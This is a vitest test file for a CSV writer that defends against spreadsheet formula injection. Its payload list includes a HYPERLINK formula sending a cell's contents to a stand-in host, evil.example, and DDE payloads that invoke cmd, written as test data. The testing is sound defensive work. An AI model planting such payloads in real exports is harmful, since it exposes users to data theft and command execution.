import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { FORMULA_START, unguardCell, writeCsv } from './csv';

/** The OWASP CSV-injection list, and the variants that slip past a naive guard. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', '=1+1', "+cmd|' /C calc'!A0", '-2+3', '-cmd', "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1', '\r=1', '\n=1', '=1+1\nsecond line', '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20SUM(1)', '-', '+', '=',
];

const read = (csv: string, delimiter: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter }).data;

describe('the one CSV writer', () => {
  it('guards every formula payload, in both dialects, and reads back to the text', () => {
    for (const dialect of [{ delimiter: ';', decimal: ',', bom: true }, { delimiter: ',', decimal: '.', bom: false }] as const) {
      const csv = writeCsv(['texte'], PAYLOADS.map((p) => [p]), dialect);
      const cells = read(csv, dialect.delimiter).slice(1).map((r) => r[0]);
      expect(cells).toEqual(PAYLOADS.map((p) => `'${p}`));
      expect(cells.map(unguardCell)).toEqual(PAYLOADS);
    }
  });

  it('papaparse’s default pattern misses a formula followed by a line break; ours does not', () => {
    const unparsed = Papa.unparse([['=1+1\nx']], { escapeFormulae: true });
    expect(unparsed.startsWith('"=1+1')).toBe(true);
    expect(FORMULA_START.test('=1+1\nx')).toBe(true);
  });

  it('keeps numbers numbers: negative, decimal comma, exponent; and number-shaped text is not a formula', () => {
    const csv = writeCsv(['n', 't'], [[-3, '-3'], [-1.5, '-1,5'], [-2.5e-7, '1e21'], [0, '12'], [null, '']], { delimiter: ';', decimal: ',', bom: false });
    expect(csv).toBe('n;t\r\n-3;-3\r\n-1,5;-1,5\r\n-2,5e-7;1e21\r\n0;12\r\n;');
    expect(writeCsv(['n'], [[-1.5]], { delimiter: ',', decimal: '.', bom: false })).toBe('n\r\n-1.5');
  });

  it('leaves ordinary text, booleans and empty cells alone; quotes separators and line breaks', () => {
    const csv = writeCsv(['a', 'b', 'c'], [['Centre social « Le Lien »', true, 'x;y "z"\nw'], ['', false, null]], { delimiter: ';', decimal: ',', bom: true, finalNewline: true });
    expect(csv).toBe('\uFEFFa;b;c\r\nCentre social « Le Lien »;true;"x;y ""z""\nw"\r\n;false;\r\n');
  });

  it('unguards only a guard: an apostrophe before ordinary text stays', () => {
    expect(unguardCell("'=1")).toBe('=1');
    expect(unguardCell("l'été")).toBe("l'été");
    expect(unguardCell("'bonjour")).toBe("'bonjour");
  });
});
